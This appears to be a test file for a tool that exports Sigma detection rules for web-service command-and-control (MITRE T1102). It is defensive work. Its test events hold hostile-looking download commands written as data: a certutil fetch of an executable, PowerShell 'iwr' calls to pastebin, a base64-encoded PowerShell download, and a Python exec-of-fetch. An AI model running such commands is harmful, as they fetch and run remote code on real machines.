import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { describe, it } from 'node:test';
import { parse } from 'yaml';
import { exportRules } from '../../src/export/index.js';
import type { ExportContext } from '../../src/export/model.js';
import { sigmaGlob, SIGMA_RULE_DATE } from '../../src/export/sigma.js';
import { exportedRuleId } from '../../src/export/uuid.js';
import { builtinCatalog } from '../../src/rules/catalog/domain-match.js';
import { builtinRules } from '../../src/rules/pack.js';
import { sharedPath } from '../helpers.js';
import { sigmaMatches } from './sigma-eval.js';

const ctx: ExportContext = { catalog: builtinCatalog().catalog, allowlist: [], version: '0.0.0' };
const files = exportRules('sigma', builtinRules(), ctx);
const docs = new Map(files.map((f) => [f.name, parse(f.text) as Record<string, unknown>]));
const detection = (name: string): Record<string, unknown> =>
  docs.get(name)!['detection'] as Record<string, unknown>;

type Validate = ((data: unknown) => boolean) & { errors?: unknown[] | null };
interface AjvLike {
  compile(schema: unknown): Validate;
}

/**
 * Ajv 8 (JSON Schema 2020-12) with ajv-formats, when installed. The project asks for them as
 * dev dependencies; until then the schema test is skipped and says why.
 */
function loadAjv(): AjvLike | string {
  const require = createRequire(import.meta.url);
  try {
    const Ajv2020 = (require('ajv/dist/2020') as { default: new (o: object) => AjvLike }).default;
    const addFormats = (require('ajv-formats') as { default: (a: AjvLike) => void }).default;
    // strict off: the Sigma schemas use keywords outside the vocabulary (`items` on objects).
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    addFormats(ajv);
    return ajv;
  } catch (err) {
    return `ajv 8 and ajv-formats are not installed (${(err as Error).message.split('\n')[0]})`;
  }
}

const schema = (name: string): unknown =>
  JSON.parse(readFileSync(sharedPath('data', 'sigma-schema', name), 'utf8'));

describe('Sigma export', () => {
  const ajv = loadAjv();
  it(
    'validates every rule against the Sigma JSON schemas',
    { skip: typeof ajv === 'string' ? ajv : false },
    () => {
      const a = ajv as AjvLike;
      const detectionSchema = a.compile(schema('sigma-detection-rule-schema.json'));
      const correlationSchema = a.compile(schema('sigma-correlation-rules-schema.json'));
      assert.equal(
        detectionSchema({ title: 'x', logsource: {}, detection: {}, tags: ['Bad'] }),
        false,
      );
      for (const [name, doc] of docs) {
        const validate = 'correlation' in doc ? correlationSchema : detectionSchema;
        assert.ok(validate(doc), `${name}: ${JSON.stringify(validate.errors)}`);
      }
    },
  );

  it('writes five detection rules and a correlation, named after webc2-t1102', () => {
    const levels = Object.fromEntries([...docs].map(([n, d]) => [n, d['level']]));
    assert.deepEqual(levels, {
      'webc2-t1102-dns-query.yml': 'low',
      'webc2-t1102-encoded-command.yml': 'medium',
      'webc2-t1102-fetch-and-resolve.yml': 'medium',
      'webc2-t1102-network-connection.yml': 'low',
      'webc2-t1102-process-creation.yml': 'medium',
      'webc2-t1102-script-block.yml': 'medium',
    });
    const categories = [...docs.values()].map(
      (d) => (d['logsource'] as Record<string, string> | undefined)?.['category'],
    );
    assert.deepEqual(categories.sort(), [
      'dns_query',
      'network_connection',
      'process_creation',
      'process_creation',
      'ps_script',
      undefined,
    ]);
    for (const [name, doc] of docs) {
      assert.equal(doc['id'], exportedRuleId(name.replace(/\.yml$/, '')), 'id from the rule name');
      assert.equal(doc['status'], 'experimental');
      assert.equal(doc['date'], SIGMA_RULE_DATE);
      if (!('correlation' in doc))
        assert.deepEqual(doc['tags'], [
          'attack.command-and-control',
          'attack.t1102',
          'attack.t1102.001',
          'attack.t1102.002',
        ]);
      assert.ok((doc['falsepositives'] as string[]).length >= 5);
    }
    const corr = docs.get('webc2-t1102-fetch-and-resolve.yml')!['correlation'] as Record<
      string,
      unknown
    >;
    assert.deepEqual(corr['rules'], ['webc2-t1102-process-creation', 'webc2-t1102-dns-query']);
  });

  it('matches host names on label boundaries only', () => {
    for (const [name, field] of [
      ['webc2-t1102-network-connection.yml', 'DestinationHostname'],
      ['webc2-t1102-dns-query.yml', 'QueryName'],
    ] as const) {
      const d = detection(name);
      const names = (d['selection_service_names'] as Record<string, string[]>)[field]!;
      const parents = (d['selection_service_parents'] as Record<string, string[]>)[
        `${field}|endswith`
      ]!;
      assert.ok(names.includes('pastebin.com') && names.includes('raw.githubusercontent.com'));
      assert.ok(parents.includes('.pastebin.com'));
      assert.ok(
        !parents.includes('.raw.githubusercontent.com'),
        'an exact entry has no parent form',
      );
      assert.ok(parents.every((p) => p.startsWith('.')));
      assert.doesNotMatch(
        files.find((f) => f.name === name)!.text,
        new RegExp(`${field}\\|(contains|startswith)`),
      );
    }
    const cmd = (
      detection('webc2-t1102-process-creation.yml')['selection_url_service'] as Record<
        string,
        string[]
      >
    )['CommandLine|contains']!;
    assert.ok(cmd.includes('://pastebin.com/') && cmd.includes('.pastebin.com/'));
    assert.ok(
      cmd.every((v) => /^(:\/\/|\.)[a-z0-9.-]+\/$/.test(v)),
      'anchored on both sides',
    );
  });

  it('decides single events as webc2-t1102 does, as far as Sigma can', () => {
    const net = detection('webc2-t1102-network-connection.yml');
    const conn = (Image: string, DestinationHostname: string) => ({
      Image,
      DestinationHostname,
      Initiated: 'true',
    });
    const cases: [Record<string, string>, boolean][] = [
      [
        conn('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'pastebin.com'),
        true,
      ],
      [conn('C:\\Tools\\agent.exe', 'x.pastebin.com'), true],
      [conn('C:\\Tools\\agent.exe', 'pastebin.com.evil.example'), false],
      [conn('C:\\Tools\\agent.exe', 'notdiscord.com'), false],
      [conn('C:\\Tools\\agent.exe', 'avatars.githubusercontent.com'), false],
      [conn('C:\\Tools\\agent.exe', 't.me'), true],
      [conn('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'pastebin.com'), false],
      [conn('C:\\Users\\Public\\chrome.exe', 'pastebin.com'), true],
      [conn('C:\\Users\\ann\\AppData\\Local\\Temp\\x\\chrome.exe', 'pastebin.com'), true],
      [
        conn(
          'C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
          'graph.microsoft.com',
        ),
        false,
      ],
      [
        conn(
          'C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
          'api.telegram.org',
        ),
        true,
      ],
      [
        conn(
          'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2-0\\MsMpEng.exe',
          'raw.githubusercontent.com',
        ),
        false,
      ],
      [conn('C:\\ProgramData\\evil\\MsMpEng.exe', 'raw.githubusercontent.com'), true],
      [{ ...conn('C:\\Tools\\agent.exe', 'pastebin.com'), Initiated: 'false' }, false],
    ];
    for (const [event, want] of cases)
      assert.equal(sigmaMatches(net, event), want, JSON.stringify(event));

    const dns = detection('webc2-t1102-dns-query.yml');
    assert.equal(
      sigmaMatches(dns, { Image: 'C:\\Tools\\python.exe', QueryName: 'api.telegram.org' }),
      true,
    );
    assert.equal(
      sigmaMatches(dns, { Image: 'C:\\Tools\\python.exe', QueryName: 'api.telegram.org.example' }),
      false,
    );

    const proc = detection('webc2-t1102-process-creation.yml');
    const start = (Image: string, CommandLine: string, OriginalFileName = '') => ({
      Image,
      CommandLine,
      OriginalFileName,
    });
    assert.equal(
      sigmaMatches(
        proc,
        start(
          'C:\\Windows\\System32\\certutil.exe',
          'certutil -urlcache -f https://paste.ee/r/AbC12 a.exe',
        ),
      ),
      true,
    );
    assert.equal(
      sigmaMatches(
        proc,
        start(
          'C:\\Users\\Public\\svc.exe',
          'svc -c iwr https://pastebin.com/raw/x',
          'PowerShell.EXE',
        ),
      ),
      true,
    );
    assert.equal(
      sigmaMatches(
        proc,
        start(
          'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          'iwr https://pastebin.com.cdn-edge.example/a',
        ),
      ),
      false,
    );
    assert.equal(
      sigmaMatches(proc, start('C:\\Tools\\notepad.exe', 'notepad https://pastebin.com/raw/x')),
      false,
    );
  });

  it('finds a URL in base64 on a fetching tool’s command line, and one in a script block', () => {
    const encoded = detection('webc2-t1102-encoded-command.yml');
    const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const start = (Image: string, CommandLine: string) => ({
      Image,
      CommandLine,
      OriginalFileName: '',
    });
    // PowerShell -EncodedCommand: UTF-16LE base64, the URL at any of the three alignments.
    for (const pad of ['', 'x', 'xy'])
      assert.equal(
        sigmaMatches(
          encoded,
          start(ps, `powershell -nop -enc ${utf16(`${pad}iwr https://pastebin.com/raw/AbC12`)}`),
        ),
        true,
        pad,
      );
    assert.equal(
      sigmaMatches(encoded, start(ps, `powershell -enc ${utf16('iwr https://notpastebin.com/a')}`)),
      false,
    );
    assert.equal(
      sigmaMatches(
        encoded,
        start('C:\\Tools\\notepad.exe', `notepad ${utf16('https://pastebin.com/raw/x')}`),
      ),
      false,
      'not a fetching tool',
    );
    // A versioned interpreter counts as one.
    const utf8 = Buffer.from("exec(get('https://pastebin.com/raw/x'))").toString('base64');
    assert.equal(
      sigmaMatches(
        encoded,
        start('C:\\Python312\\python3.12.exe', `python3.12 -c "b64decode('${utf8}')"`),
      ),
      true,
    );

    const script = detection('webc2-t1102-script-block.yml');
    assert.equal(
      sigmaMatches(script, { ScriptBlockText: '$c = iwr https://pastebin.com/raw/AbC12' }),
      true,
    );
    assert.equal(
      sigmaMatches(script, { ScriptBlockText: '$c = iwr https://pastebin.com.evil.example/a' }),
      false,
    );
  });

  it('escapes a backslash before a wildcard, as Sigma reads `\\*` as a literal star', () => {
    assert.equal(
      sigmaGlob('?:\\Users\\*\\AppData\\Local\\*'),
      '?:\\Users\\\\*\\AppData\\Local\\\\*',
    );
    assert.equal(sigmaGlob('?:\\Program Files\\'), '?:\\Program Files\\');
  });

  it('says in each file what Sigma cannot express', () => {
    const text = files.find((f) => f.name === 'webc2-t1102-network-connection.yml')!.text;
    assert.match(text, /^# What webc2-t1102 decides that this rule cannot say:/m);
    assert.match(text, /DNS answer/);
    assert.match(text, /BITS/);
  });
});
